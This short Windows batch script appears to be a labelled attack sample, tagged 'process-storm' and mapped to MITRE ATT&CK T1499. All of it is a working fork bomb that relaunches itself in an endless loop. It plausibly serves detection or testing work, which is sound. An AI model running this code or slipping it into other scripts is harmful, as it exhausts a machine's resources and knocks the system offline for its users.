@rem expect: process-storm | source: MITRE ATT&CK T1499
:again
start "" "%~f0"
goto again
